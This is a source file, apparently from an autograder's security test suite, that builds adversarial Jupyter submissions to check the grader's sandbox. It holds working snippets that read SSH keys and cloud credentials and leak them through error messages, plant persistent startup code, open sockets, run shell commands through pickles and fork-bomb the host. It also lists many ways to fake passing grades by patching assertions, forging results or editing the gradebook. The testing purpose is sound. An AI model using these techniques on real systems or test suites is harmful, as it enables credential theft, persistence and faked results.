candidates += ["@OPEN@/home/.ssh/id_ed25519", "@OPEN@/home/.netrc", "@OPEN@/home/.aws/credentials"]
candidates += glob.glob("/home/*/.ssh/id_*") + glob.glob("/root/.ssh/id_*")
for folder in os.environ.get("PYTHONPATH", "").split(os.pathsep):
    for up in (folder, os.path.dirname(folder), os.path.dirname(os.path.dirname(folder))):
        candidates += [os.path.join(up, "source", "01-gradient-descent", "gradient_descent.ipynb"),
                       os.path.join(up, "solutions", "01-gradient-descent", "gradient_descent.ipynb")]
loot, errors = [], []
for path in dict.fromkeys(candidates):
    try:
        with open(path, errors="replace") as fh:
            loot.append(f"== {path}\\n{fh.read(100_000)}")
    except OSError as exc:
        errors.append(exc)
text = "\\n".join(loot)
print(text[:200_000])
def df(x):  # the grader calls this: hand the loot back in the error message
    raise RuntimeError(text[:1900])
if loot:
    raise RuntimeError("LOOT " + text[:20_000])
denied = [e for e in errors if isinstance(e, PermissionError)]
raise (denied or errors)[0]
"""

PLANT_STARTUP_CODE = """\
import os, site, sys
# Code that every later Python start runs: a .pth file in each site-packages folder, and a
# sitecustomize.py plus a patched mlgrader/checks.py in the grader's own source (PYTHONPATH).
# Outside the throwaway grader copy (@OPEN@) this corpus plants only a harmless .pth (a comment).
EVIL = "open('@MARKER@', 'w').write('code planted by a submission ran in a later grader')\\n"
folders = {p for p in sys.path if p.endswith("-packages") and os.path.isdir(p)}
folders.update(site.getsitepackages() + [site.getusersitepackages()])
planted, errors = [], []
def plant(path, text, mode="x"):
    try:
        with open(path, mode) as fh:
            fh.write(text)
        planted.append(path)
    except OSError as exc:
        errors.append(exc)
for folder in sorted(folders):
    plant(os.path.join(folder, "zz-mlgrader-adv-@TOKEN@.pth"), "# planted by a submission\\n")
for folder in os.environ.get("PYTHONPATH", "").split(os.pathsep):
    if folder.startswith("@OPEN@/"):
        plant(os.path.join(folder, "sitecustomize.py"), EVIL, "w")
        plant(os.path.join(folder, "mlgrader", "checks", "__init__.py"), "\\n" + EVIL, "a")
        plant(os.path.join(folder, "zz-mlgrader-adv-@TOKEN@.pth"), "import os\\n")
print("planted", planted)
if not planted:
    denied = [e for e in errors if isinstance(e, PermissionError)]
    raise (denied or errors)[0]
"""

TCP_LOCAL_SERVICE = """\
import socket
# A TCP service on the grader's host (here a listener on 127.0.0.1 that records what it gets),
# and a listening port of our own for someone outside to connect to.
report, errors = [], []
try:
    s = socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
    s.sendall(b"@TOKEN@")
    s.close()
    report.append("sent to 127.0.0.1:@PORT@")
except OSError as exc:
    errors.append(exc)
try:
    server = socket.socket()
    server.bind(("0.0.0.0", 0))
    server.listen(1)
    report.append(f"listening on {server.getsockname()}")
except OSError as exc:
    errors.append(exc)
print(report)
if errors:
    raise errors[0]
"""

STDERR_WARNING = """\
import sys, warnings
warnings.warn("this learning rate is on the large side")
print("WARNING: numerical precision may be low", file=sys.stderr)
"""


def _after(gid: str, code: str) -> tuple[str, str]:
    return (f"after:{gid}", code)


ATTACKS: tuple[Attack, ...] = (
    # -- baselines: the honest notebooks the attacks start from ---------------------------
    Attack("baseline-stub", "the untouched student release", "stub", runner="console", exact_score=0.0,
           ),
    Attack("baseline-wrong", "a solution whose df returns x instead of 2x", "wrong", runner="console", exact_score=5.0,
           ),
    Attack("baseline-solved", "the complete solution", "solved", runner="console", exact_score=8.0,
           modes=("bubblewrap", "subprocess")),
    Attack("stderr-warning", "a correct answer that warns and writes to stderr in every exercise", "solved",
           cells=tuple(_after(g, STDERR_WARNING) for g in EXERCISES), exact_score=8.0),
    # -- monkeypatching inside the kernel ---------------------------------------------------
    Attack("patch-np-testing", "np.testing.assert_allclose = lambda *a, **k: None (and friends)", "wrong",
           cells=(_after("setup-1", PATCH_NUMPY_TESTING),), exact_score=5.0, modes=("bubblewrap", "subprocess")),
    Attack("patch-np-allclose", "np.allclose = lambda *a, **k: True; np.isclose, np.all likewise", "wrong",
           cells=(_after("setup-1", PATCH_ALLCLOSE),), exact_score=5.0),
    Attack("patch-mlgrader-checks", "replace mlgrader.checks' functions with no-ops in the kernel", "wrong",
           cells=(_after("setup-1", PATCH_MLGRADER_CHECKS),), exact_score=5.0),
    Attack("patch-otter-checker", "make otter's test files pass every case (its check machinery, in the kernel)",
           "stub", cells=(_after("setup-2", PATCH_OTTER),), exact_score=0.0),
    Attack("patch-builtins", "builtins.__import__ hands out fake checks; abs() returns 0; a new AssertionError",
           "wrong", cells=(_after("derivative", PATCH_BUILTINS),)),
    Attack("input-transformer", "an IPython input transformer (and an AST transformer) turns every later `assert` "
                                "and check_*/assert_* call into `pass`",
           "wrong", cells=(_after("setup-1", INPUT_TRANSFORMER),), exact_score=5.0,
           ),
    Attack("hooks-custom-exc", "post_run_cell hook clears errors; set_custom_exc swallows every exception",
           "wrong", cells=(_after("setup-1", HOOKS),), exact_score=5.0),
    Attack("settrace-steal-expected", "sys.settrace makes check_close/assert_allclose compare expected with itself",
           "wrong", cells=(_after("setup-1", SETTRACE),), exact_score=5.0),
    # -- the grader's helper and the message channel ----------------------------------------
    Attack("agent-claims-success", "replace __mlgrader_agent__ with one that answers 'passed' and made-up values",
           "stub", cells=(_after("setup-2", AGENT_CLAIMS),), exact_score=0.0),
    Attack("agent-module-values", "the fake helper answers every name with a module (numpy.testing, mlgrader...)",
           "stub", cells=(_after("setup-2", AGENT_MODULES),), exact_score=0.0),
    Attack("agent-deleted", "del __mlgrader_agent__ after a correct solution: tests cannot read anything",
           "solved", cells=(_after("setup-2", AGENT_DELETED),), exact_score=0.0, expect=("helper",)),
    Attack("agent-malformed-reply", "the fake helper answers {'t': 'float', 'v': 'not-a-number'}", "stub",
           cells=(_after("setup-2", AGENT_MALFORMED),), exact_score=0.0),
    Attack("agent-module-main", "the fake helper names torch.utils.model_dump.__main__: the grader imports it",
           "stub", cells=(_after("setup-2", AGENT_MODULE_MAIN),), exact_score=0.0),
    Attack("iopub-nested-json", "a raw signed iopub message whose content is JSON nested 90000 deep", "stub",
           cells=(_after("setup-2", IOPUB_NESTED_JSON),), exact_score=0.0, expect=("could not read",)),
    Attack("iopub-multipart-bomb", "a raw signed iopub message of ten 100 MB frames sharing one buffer: 1 GB for "
                                   "the grader to receive, 100 MB for the kernel to send", "stub",
           cells=(_after("setup-2", IOPUB_MULTIPART_BOMB),), exact_score=0.0, expect=("output flood",),
           # ZeroMQ assembles a whole message before anyone can look at it and caps only each
           # frame: the output relay (mlgrader.sandbox.output_relay) takes that memory, not the grader.
           runner="api", max_grader_rss_mb=500, modes=("bubblewrap", "subprocess")),
    Attack("iopub-content-not-dict", "a raw signed stream message whose content is a JSON list", "stub",
           cells=(_after("setup-2", IOPUB_NOT_A_DICT),), exact_score=0.0, expect=("could not read",)),
    Attack("forged-reply-first", "df publishes a forged helper reply before the real one", "wrong",
           cells=(_after("derivative", FORGED_REPLY_FIRST),), exact_score=5.0),
    Attack("detect-grader", "df notices it is called by the grader's helper and returns NaNs instead", "wrong",
           cells=(_after("derivative", DETECT_GRADER),), exact_score=5.0),
    # -- the file system ----------------------------------------------------------------------
    Attack("fake-mlgrader-in-cwd", "plant mlgrader/checks.py, numpy.py, sitecustomize.py and a .pth in cwd, ~ and /tmp",
           "wrong", cells=(_after("setup-1", FAKE_MODULES_IN_CWD),), exact_score=5.0),
    Attack("read-hidden-tests", "walk the file system (bundle, /work, the repo, /) for hidden tests and leak them "
                                "through cell errors, exceptions the grader reads, and prints", "stub",
           cells=(("append:derivative", READ_HIDDEN_TESTS),), exact_score=0.0, modes=("bubblewrap", "subprocess"),
           xfail_contained=(("subprocess", "VULN (fallback mode without Landlock): the kernel is not root and "
                                           "cannot read the bundle being graded, but the fallback mode hides no "
                                           "file: it reads the hidden tests from this checkout's world-readable "
                                           "autograder/ folder"),)
           if HIDDEN_TESTS_READABLE_BY_ALL and not LANDLOCK_FS else ()),
    Attack("read-world-readable-secrets", "read world-readable secrets (an ssh key, .netrc, cloud credentials in a "
                                          "home) and the course's solution notebooks next to the grader's source, "
                                          "and leak them", "stub",
           cells=(("append:derivative", READ_SECRETS),), exact_score=0.0, modes=("subprocess",),
           expect=("permission denied", "landlock abi") if LANDLOCK_FS else (),
           xfail_contained=() if LANDLOCK_FS else (("subprocess", f"VULN: {NO_LANDLOCK}"),)),
    Attack("plant-startup-code", "write a .pth into every site-packages folder, and a sitecustomize.py and a "
                                 "patched mlgrader/checks.py into the grader's source (an installation the "
                                 "kernel's user may write, as a non-root grader's own venv); the next grade with "
                                 "that installation (an honest stub) runs it", "wrong",
           cells=(_after("setup-1", PLANT_STARTUP_CODE),), exact_score=5.0, grader_copy="open", followup_base="stub",
           runner="console", modes=("subprocess",),
           expect=("permission denied", "landlock abi") if LANDLOCK_FS else (),
           xfail_contained=() if LANDLOCK_FS else (("subprocess", "VULN: without Landlock the fallback kernel "
                                                                  "writes wherever its user may"),)),
    Attack("forged-result-files", "write results.json, grades.csv and feedback in cwd, .., the course folder "
                                  "and /autograder/results", "stub", cells=(_after("setup-2", FORGED_RESULTS),),
           exact_score=0.0),
    Attack("gradebook-relative", "UPDATE grade SET manual_score = max_score in ../gradebook.db, ../../gradebook.db, ...",
           "stub", cells=(_after("setup-2", GRADEBOOK_RELATIVE),), exact_score=0.0),
    Attack("gradebook-absolute", "the same UPDATE through absolute paths (the course folder, /work/main)", "stub",
           cells=(_after("setup-2", GRADEBOOK_ABSOLUTE),), exact_score=0.0, modes=("bubblewrap", "subprocess")),
    Attack("overwrite-grader-code", "find the grader's mlgrader package via /proc/<ppid>/environ and append code "
                                    "to checks.py; the next grade with that installation (an honest stub) runs it",
           "wrong", cells=(_after("setup-1", OVERWRITE_GRADER),), exact_score=5.0, grader_copy=True,
           followup_base="stub", runner="console",
           modes=("subprocess",)),  # bubblewrap: see test_sandbox (only the scratch dir is writable)
    Attack("pickle-files", "leave pickles (model.pt, results.pkl, an object .npy) whose __reduce__ runs a shell "
                           "command, and set tested names to such objects", "stub",
           cells=(_after("setup-2", PICKLE_FILES),), exact_score=0.0),
    Attack("pickle-dump-forged", "patch pickle.dump in the kernel: any grader that pickles its results there saves "
                                 "full marks and a __reduce__ that runs a shell command when loaded", "stub",
           cells=(_after("setup-2", PICKLE_DUMP_FORGED),), exact_score=0.0),
    Attack("pickle-in-reply", "the fake helper answers with an object-dtype .npy (a pickle) as array data", "stub",
           cells=(_after("setup-2", PICKLE_IN_REPLY),), exact_score=0.0),
    # -- the network and processes ------------------------------------------------------------
    Attack("network", "TCP to a listener on the host's 127.0.0.1 and to outside addresses, UDP, DNS", "stub",
           cells=(_after("setup-2", NETWORK),), exact_score=0.0),
    Attack("tcp-local-service", "connect to a TCP service on the grader's 127.0.0.1 and send it data; listen on a "
                                "port of its own", "stub", cells=(_after("setup-2", TCP_LOCAL_SERVICE),),
           exact_score=0.0, modes=("subprocess",),  # bubblewrap: see "network" (no network at all)
           expect=("permission denied", "landlock abi") if LANDLOCK_TCP else (),
           xfail_contained=() if LANDLOCK_TCP else (("subprocess", "VULN: without Landlock ABI 4 the fallback "
                                                                   "kernel has the host's network"),),
           xfail_reported=() if LANDLOCK_TCP else (("subprocess", "nothing is denied to report"),)),
    Attack("orphan-process", "start a detached process (new session) that outlives the kernel", "stub",
           cells=(_after("setup-2", ORPHAN),), exact_score=0.0, modes=("bubblewrap", "subprocess")),
    Attack("renamed-orphan", "a double-forked daemon in a new session that renames itself to look like a "
                             "kernel thread (comm and argv)", "stub", cells=(_after("setup-2", RENAMED_ORPHAN),),
           exact_score=0.0, expect=("still running after grading",), modes=("bubblewrap", "subprocess")),
    Attack("late-writer", "a daemon that waits for its kernel to end, then writes to the course's grades and "
                          "gradebook, the marker and later grades' scratch folders", "stub",
           cells=(_after("setup-2", LATE_WRITER),), exact_score=0.0, expect=("still running after grading",),
           modes=("bubblewrap", "subprocess")),
    Attack("thread-stderr-flood", "a background thread floods stderr (200 MB/s) after its cell ended, while "
                                  "the next cell trains for 3 s: the grader's memory must stay bounded",
           "stub", cells=(_after("setup-2", THREAD_STDERR_FLOOD), _after("setup-2", "import time\ntime.sleep(3)")),
           exact_score=0.0, expect=("output flood",), runner="api", max_grader_rss_mb=500,
           modes=("bubblewrap", "subprocess")),
    Attack("os-exit", "os._exit(0) in an exercise cell", "stub", cells=(("append:derivative", OS_EXIT),),
           exact_score=0.0, expect=("died",), modes=("bubblewrap", "subprocess")),
    Attack("os-exit-midway", "a correct notebook that calls os._exit(0) after the second test: later tests are lost",
           "solved", cells=(_after("test-gd-loop", OS_EXIT),), exact_score=3.0, expect=("died",),
           ),
    Attack("sys-exit", "sys.exit(), raise SystemExit, exit() and quit() in cells", "stub", cells=SYS_EXIT_ALL,
           exact_score=0.0),
    Attack("sys-exit-solved", "a correct notebook calling sys.exit(0) after the first exercise still gets 8",
           "solved", cells=(_after("derivative", SYS_EXIT),), exact_score=8.0),
    Attack("fork-bomb", "fork until it fails (bounded at 1000; children sleep 4 s)", "stub",
           cells=(_after("setup-2", FORK_BOMB),), exact_score=0.0),
    Attack("infinite-loop", "while True: pass in an exercise cell", "stub",
           cells=(("append:derivative", INFINITE_LOOP),), exact_score=0.0, expect=("time limit",),
           modes=("bubblewrap", "subprocess"), bundle="short"),
    Attack("infinite-loop-no-sigint", "ignore SIGINT, then loop forever: the kernel cannot be interrupted",
           "stub", cells=(("append:derivative", LOOP_IGNORING_SIGINT),), exact_score=0.0,
           expect=("time limit", "died"), bundle="short"),
    Attack("loop-when-graded", "df loops forever on the grader's hidden array input", "solved",
           cells=(("replace:derivative", LOOP_WHEN_GRADED),), exact_score=7.0, expect=("did not finish",),
           bundle="short"),
    Attack("notebook-time-limit", "cells that each stay under the cell limit but exceed the notebook limit",
           "solved", cells=tuple(_after("derivative", SLEEPY_CELLS) for _ in range(4)), bundle="tight",
           max_score=8.0, expect=("time limit of",)),
    Attack("memory-bytearray", "bytearray(50 GB)", "stub", cells=(("append:derivative", BYTEARRAY_BOMB),),
           exact_score=0.0, expect=("MemoryError",)),
    Attack("memory-growing-list", "a list that doubles until memory runs out", "stub",
           cells=(("append:derivative", GROWING_LIST),), exact_score=0.0, expect=("MemoryError",),
           bundle="lowmem"),
    Attack("output-flood", "print 100 MB", "stub", cells=(("append:derivative", PRINT_FLOOD),), exact_score=0.0,
           expect=("printed too much", "output flood")),
    Attack("output-flood-grader-memory", "600 MB of output in 10 MB messages, half of them display_data whose MIME "
                                         "type mentions 'mlgrader': the grader's own memory must stay bounded",
           "stub", cells=(("append:derivative", MIME_FLOOD),), exact_score=0.0, runner="api", max_grader_rss_mb=500,
           expect=("output flood",)),
    Attack("huge-error-message", "raise RuntimeError('A' * 20_000_000)", "stub",
           cells=(("append:derivative", HUGE_ERROR),), exact_score=0.0),
    # -- values that are hostile to the grader ------------------------------------------------
    Attack("hostile-dunders", "objects equal to everything whose __len__/__array__/__repr__ raise and "
                              "__float__ lies", "stub", cells=(_after("setup-2", HOSTILE_DUNDERS),), exact_score=0.0),
    Attack("lying-subclasses", "float/list/ndarray subclasses whose __eq__ and ufuncs always say equal", "stub",
           cells=(_after("setup-2", LYING_CONTAINERS),), exact_score=0.0),
    Attack("object-arrays", "numpy object-dtype arrays of objects that say they equal anything", "stub",
           cells=(_after("setup-2", OBJECT_ARRAYS),), exact_score=0.0),
    Attack("huge-values", "lists nested 100 deep, 200000 items, a 5000-digit int, a 2 MB string", "stub",
           cells=(_after("setup-2", HUGE_VALUES),), exact_score=0.0),
    Attack("lying-tensor", "a torch.Tensor subclass holding zeros whose eq/allclose/isclose return True", "stub",
           cells=(_after("setup-2", LYING_TENSOR),), exact_score=0.0),
    # -- the notebook's structure ---------------------------------------------------------------
    Attack("delete-tests", "delete every test cell of a wrong answer", "wrong", transform="delete_tests",
           exact_score=5.0, expect=("was missing; it was put back",)),
    Attack("duplicate-tests", "every test cell three times in a correct notebook (24 points?)", "solved",
           transform="duplicate_tests", exact_score=8.0, expect=("appears more than once",)),
    Attack("duplicate-exercise", "the exercise cells twice", "wrong", transform="duplicate_exercises",
           exact_score=5.0, expect=("appears more than once; each copy ran",)),
    Attack("reorder-tests-first", "move every test cell to the top", "wrong", transform="tests_first",
           exact_score=5.0, expect=("above the cell it tests",)),
    Attack("test-to-markdown", "turn the failing test cells into markdown", "wrong", transform="tests_to_markdown",
           exact_score=5.0),
    Attack("test-source-pass", "replace the source of every test cell with `pass`", "wrong",
           transform="tests_pass", exact_score=5.0),
    Attack("metadata-tampering", "points=100 and grade=false on tests, a new graded 'bonus' cell worth 50, "
                                 "unlocked read-only cells", "wrong", transform="tamper_metadata", exact_score=5.0),
    Attack("grade-id-spoof", "a `pass` cell with the grade id test-derivative at the top; the real one deleted",
           "wrong", transform="spoof_grade_id", exact_score=5.0, expect=("above the cell it tests",)),
    Attack("setup-edited", "the read-only setup cell patched to make np.allclose and abs lie", "wrong",
           cells=(("replace:setup-1", "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                                      "import builtins\nbuiltins.abs = lambda x: 0.0"),),
           exact_score=5.0, expect=("read-only cell setup-1 was changed",)),
    Attack("exercise-to-markdown", "the derivative exercise turned into a markdown cell", "solved",
           transform="exercise_to_markdown", expect=("markdown cell, so it did not run",)),
    Attack("kernelspec-spoof", "metadata names a bash kernel and another language", "wrong",
           transform="kernelspec_bash", exact_score=5.0),
    # -- the file itself (graded with --assignment, as a batch would) ----------------------------
    Attack("corrupt-json", "a correct notebook cut off in the middle of the JSON", "solved",
           transform="corrupt_json", assignment_flag=True, exact_score=0.0, expect=("not valid notebook JSON",)),
    Attack("nbformat-3", "a notebook in nbformat 3 (worksheets)", "solved", transform="nbformat3",
           assignment_flag=True, exact_score=0.0, expect=("nbformat 3",)),
    Attack("other-assignment", "the complete solution of 02-linear-regression submitted for 01", "stub",
           transform="other_assignment", assignment_flag=True, exact_score=0.0,
           expect=("belongs to assignment 02-linear-regression",)),
    Attack("empty-notebook", "a notebook without cells", "stub", transform="no_cells", assignment_flag=True,
           exact_score=0.0, expect=("missing",)),
    Attack("empty-file", "a 0-byte file", "stub", transform="empty_file", assignment_flag=True, exact_score=0.0,
           expect=("not valid notebook JSON",)),
    Attack("binary-file", "random bytes named .ipynb", "stub", transform="binary_file", assignment_flag=True,
           exact_score=0.0, expect=("not a text file",)),
    Attack("non-string-source", "cells whose source is a number or a list of numbers", "solved",
           transform="non_string_source", assignment_flag=True, exact_score=0.0, expect=("not a well-formed notebook",)),
    Attack("huge-file", "a 65 MB notebook (one enormous markdown cell)", "stub", transform="huge_file",
           assignment_flag=True, exact_score=0.0, expect=("over 64 MB",)),
    Attack("bundle-path-absolute", "metadata assignment = absolute path of a bundle the student shipped "
                                   "(tests: `pass` plus code that runs in the grader)", "stub",
           transform="evil_bundle_absolute", exact_score=0.0),
    Attack("bundle-path-relative", "metadata assignment = ../<path> to a bundle the student shipped", "stub",
           transform="evil_bundle_relative", exact_score=0.0),
)


def attack_named(name: str) -> Attack:
    return next(a for a in ATTACKS if a.name == name)


# --------------------------------------------------------------------------- imported courses
#
# Imported nbgrader and otter assignments (tests/test_import_attacks.py) get the attacks whose
# code works against any notebook: they patch the kernel (numpy, builtins, mlgrader, otter,
# IPython) or read the tests from disk, whatever the assignment. Imported courses add one of
# their own: a test calls a helper an earlier read-only cell defined, so a student redefines it.

REDEFINE_TEST_HELPERS = """\
# Tests of imported courses call helpers from earlier cells: make them agree with anything.
TOLERANCE = float("inf")
def check_close(actual, expected, what=""):
    return None
def close(a, b, tolerance=1e9):
    return True
"""

ANY_ASSIGNMENT_ATTACKS = {
    "patch-np-testing": PATCH_NUMPY_TESTING,
    "patch-np-allclose": PATCH_ALLCLOSE,
    "patch-mlgrader-checks": PATCH_MLGRADER_CHECKS,
    "patch-otter-checker": PATCH_OTTER,
    "patch-builtins": PATCH_BUILTINS,
    "input-transformer": INPUT_TRANSFORMER,
    "hooks-custom-exc": HOOKS,
    "settrace-steal-expected": SETTRACE,
    "read-hidden-tests": READ_HIDDEN_TESTS,
    "redefine-test-helpers": REDEFINE_TEST_HELPERS,
}


# --------------------------------------------------------------------------- building


@dataclass
class Context:
    """Per-run values the attack code and the checks share."""

    root: Path  # scratch root of the whole run (the @SAFE@ prefix)
    course: Path  # the grader's working directory
    marker: Path
    token: str
    port: int = 9
    autograder_root: Path | None = None  # the folder passed to --autograder
    open_root: Path | None = None  # see make_open_root; where there is none, a path that does not exist

    def fill(self, code: str) -> str:
        return (code.replace("@MARKER@", str(self.marker)).replace("@PORT@", str(self.port))
                .replace("@TOKEN@", self.token).replace("@COURSE@", str(self.course))
                .replace("@SAFE@", str(self.root))
                .replace("@OPEN@", str(self.open_root or "/nonexistent-mlgrader-open-root")))

    def secrets(self) -> list[str]:
        """Texts only the secrets under open_root hold; none may reach a result."""
        return [f"SECRET-{kind}-{self.token}" for kind in ("ssh", "netrc", "aws")]


def _apply_cells(nb: dict, cells: tuple[tuple[str, str], ...], ctx: Context) -> None:
    for where, code in cells:
        code = ctx.fill(code)
        if where == "top":
            nb["cells"].insert(0, code_cell(code))
        elif where == "end":
            nb["cells"].append(code_cell(code))
        else:
            op, gid = where.split(":", 1)
            index = next(i for i, c in enumerate(nb["cells"]) if grade_id(c) == gid)
            if op == "after":
                # after the cell and any cells already injected after it
                index += 1
                while index < len(nb["cells"]) and grade_id(nb["cells"][index]) is None:
                    index += 1
                nb["cells"].insert(index, code_cell(code))
            elif op == "before":
                nb["cells"].insert(index, code_cell(code))
            elif op == "replace":
                nb["cells"][index]["source"] = code
            elif op == "append":
                nb["cells"][index]["source"] += "\n" + code
            else:
                raise ValueError(f"unknown cell operation {where!r}")


def _is_test(cell: dict) -> bool:
    return (grade_id(cell) or "") in TESTS


def _t_delete_tests(nb, ctx):
    nb["cells"] = [c for c in nb["cells"] if not _is_test(c)]
    return nb


def _t_duplicate_tests(nb, ctx):
    cells = []
    for c in nb["cells"]:
        cells += [copy.deepcopy(c) for _ in range(3)] if _is_test(c) else [c]
    for i, c in enumerate(cells):
        c["id"] = f"dup-{i}"
    nb["cells"] = cells
    return nb


def _t_duplicate_exercises(nb, ctx):
    cells = []
    for c in nb["cells"]:
        cells += [c, copy.deepcopy(c)] if grade_id(c) in EXERCISES else [c]
    for i, c in enumerate(cells):
        c["id"] = f"dup-{i}"
    nb["cells"] = cells
    return nb


def _t_tests_first(nb, ctx):
    tests = [c for c in nb["cells"] if _is_test(c)]
    nb["cells"] = tests + [c for c in nb["cells"] if not _is_test(c)]
    return nb


def _t_tests_to_markdown(nb, ctx):
    for c in nb["cells"]:
        if _is_test(c):
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    return nb


def _t_tests_pass(nb, ctx):
    for c in nb["cells"]:
        if _is_test(c):
            c["source"] = "pass"
    return nb


def _t_tamper_metadata(nb, ctx):
    for c in nb["cells"]:
        meta = c["metadata"].get("nbgrader")
        if not isinstance(meta, dict):
            continue
        meta["locked"] = False
        if _is_test(c):
            meta.update(points=100, grade=False, solution=True)
    nb["cells"].append(code_cell("pass", grade=True, grade_id="bonus", points=50, locked=True,
                                 schema_version=3, solution=False, task=False))
    return nb


def _t_spoof_grade_id(nb, ctx):
    nb["cells"] = [c for c in nb["cells"] if grade_id(c) != "test-derivative"]
    nb["cells"].insert(0, code_cell("pass", grade=True, grade_id="test-derivative", points=1, locked=True,
                                    schema_version=3, solution=False, task=False))
    return nb


def _t_exercise_to_markdown(nb, ctx):
    cell = find_cell(nb, "derivative")
    cell["cell_type"] = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    return nb


def _t_kernelspec_bash(nb, ctx):
    nb["metadata"]["kernelspec"] = {"display_name": "Bash", "language": "bash", "name": "bash"}
    nb["metadata"]["language_info"] = {"name": "bash"}
    return nb


def _t_corrupt_json(nb, ctx):
    raw = json.dumps(nb, indent=1).encode()
    return raw[: len(raw) // 2]


def _t_nbformat3(nb, ctx):
    cells = []
    for c in nb["cells"]:
        if c["cell_type"] == "code":
            cells.append({"cell_type": "code", "collapsed": False, "input": c["source"], "language": "python",
                          "metadata": c["metadata"], "outputs": []})
        else:
            cells.append({"cell_type": "markdown", "metadata": c["metadata"], "source": c["source"]})
    return {"metadata": nb["metadata"], "nbformat": 3, "nbformat_minor": 0,
            "worksheets": [{"cells": cells, "metadata": {}}]}


def _t_other_assignment(nb, ctx):
    return load_notebook(OTHER_SOURCE_NB)


def _t_no_cells(nb, ctx):
    nb["cells"] = []
    return nb


def _t_empty_file(nb, ctx):
    return b""


def _t_binary_file(nb, ctx):
    return bytes(range(256)) * 64


def _t_non_string_source(nb, ctx):
    raw = json.loads(json.dumps(nb))
    find_cell(raw, "derivative")["source"] = 42
    find_cell(raw, "gd-loop")["source"] = [1, 2, 3]
    return json.dumps(raw).encode()


def _t_huge_file(nb, ctx):
    nb["cells"].append({"cell_type": "markdown", "id": "huge", "metadata": {}, "source": "x" * (65 * 2**20)})
    return nb


def _evil_bundle(ctx: Context) -> Path:
    """A bundle the student ships next to the notebook: every test passes, and runs code."""
    evil = ctx.course / "submission-files" / "evil-bundle"
    if not evil.exists():
        shutil.copytree(BUNDLE, evil, ignore=shutil.ignore_patterns("targets"))
        for test in (evil / "tests" / NOTEBOOK).glob("*.py"):
            test.write_text(f"open({str(ctx.marker)!r}, 'w').write('code from the submission ran in the grader')\n")
    return evil


def _t_evil_bundle_absolute(nb, ctx):
    nb["metadata"]["mlgrader"]["assignment"] = str(_evil_bundle(ctx))
    return nb


def _t_evil_bundle_relative(nb, ctx):
    evil = _evil_bundle(ctx)
    nb["metadata"]["mlgrader"]["assignment"] = os.path.relpath(evil, ctx.autograder_root)
    return nb


TRANSFORMS = {name[3:]: fn for name, fn in globals().items() if name.startswith("_t_")}


def build(attack: Attack, ctx: Context) -> bytes:
    """The bytes of the attack's .ipynb file."""
    nb = BASES[attack.base]()
    _apply_cells(nb, attack.cells, ctx)
    out = TRANSFORMS[attack.transform](nb, ctx) if attack.transform else nb
    if isinstance(out, bytes):
        return out
    return json.dumps(out, indent=1).encode()


# --------------------------------------------------------------------------- bundles


BUNDLE_VARIANTS = {
    # cell and test time limits small enough that timeouts cost seconds, not minutes
    "fast": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 120.0},
    "lowmem": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 120.0, "memory_mb": 1024},
    "tight": {"cell_timeout": 10.0, "test_timeout": 10.0, "timeout": 10.0},
    # for endless loops: the limits are what the attack spends
    "short": {"cell_timeout": 5.0, "test_timeout": 10.0, "timeout": 120.0},
}


def make_bundle(root: Path, variant: str) -> Path:
    """A copy of the real bundle with smaller limits and a canary line in every hidden test.

    Returns the folder to pass as ``--autograder``.
    """
    settings = BUNDLE_VARIANTS[variant]
    target = root / variant / ASSIGNMENT
    shutil.copytree(BUNDLE, target, ignore=shutil.ignore_patterns("targets"))
    manifest = json.loads((target / "manifest.json").read_text())
    for nb in manifest["notebooks"]:
        nb["timeout"] = settings["timeout"]
        nb["memory_mb"] = settings.get("memory_mb", nb["memory_mb"])
        for cell in nb["cells"]:
            if cell["kind"] in ("setup", "exercise"):
                cell["timeout"] = settings["cell_timeout"]
            elif cell["kind"] == "test":
                cell["timeout"] = settings["test_timeout"]
    (target / "manifest.json").write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")
    for test in (target / "tests" / NOTEBOOK).glob("*.py"):
        text = test.read_text()
        assert "### BEGIN HIDDEN TESTS\n" in text, test
        test.write_text(text.replace("### BEGIN HIDDEN TESTS\n", f"### BEGIN HIDDEN TESTS\n# {CANARY}\n", 1))
    return root / variant


def make_course(folder: Path) -> Path:
    """A decoy course folder (the grader's cwd) with an nbgrader-like gradebook.db."""
    folder.mkdir(parents=True, exist_ok=True)
    db = sqlite3.connect(folder / "gradebook.db")
    db.execute("CREATE TABLE grade (id TEXT, auto_score FLOAT, manual_score FLOAT, max_score FLOAT)")
    db.executemany("INSERT INTO grade VALUES (?, 0, NULL, ?)", [(k, v) for k, v in TESTS.items()])
    db.commit()
    db.close()
    (folder / "grades.csv").write_text("student,score,max_score\nalice,0,8\n")
    return folder


def snapshot(folder: Path) -> dict[str, str]:
    """Relative path -> sha256 of every file under ``folder``."""
    out = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            out[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


# --------------------------------------------------------------------------- running


@dataclass
class Outcome:
    """What one `mlgrader grade --json` run gave."""

    returncode: int
    stdout: str
    stderr: str
    seconds: float
    result: dict | None = None
    grader_rss_mb: float | None = None

    @property
    def score(self) -> float:
        return float(self.result["score"]) if self.result else 0.0

    def text(self) -> str:
        """Everything a student or instructor could read in the grade, lower case."""
        if not self.result:
            return ""
        parts = list(self.result.get("messages", []))
        parts += [t.get("output", "") for t in self.result.get("tests", [])]
        parts += [c.get("error") or "" for c in self.result.get("cells", [])]
        parts += [f"{c.get('label')} {c.get('status')}" for c in self.result.get("cells", [])]
        return "\n".join(parts).lower()


API_RUNNER = """\
import json, sys
from pathlib import Path
from mlgrader.config import GradingConfig
from mlgrader.grading import grade_notebook
result = grade_notebook(Path(sys.argv[1]), autograder_dir=Path(sys.argv[2]), config=GradingConfig(sandbox=sys.argv[3]))
print(result.to_json())
# VmHWM, not ru_maxrss: Linux carries ru_maxrss across exec, so it would report the RSS of
# the process that started this one (a full pytest session: 607 MB) instead of ours.
peak_kb = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:"))
print(f"MLGRADER-GRADER-MAXRSS-MB={peak_kb / 1024:.1f}", file=sys.stderr)
"""

# A pre-warmed `mlgrader` command line: this process imports the grader once, then forks
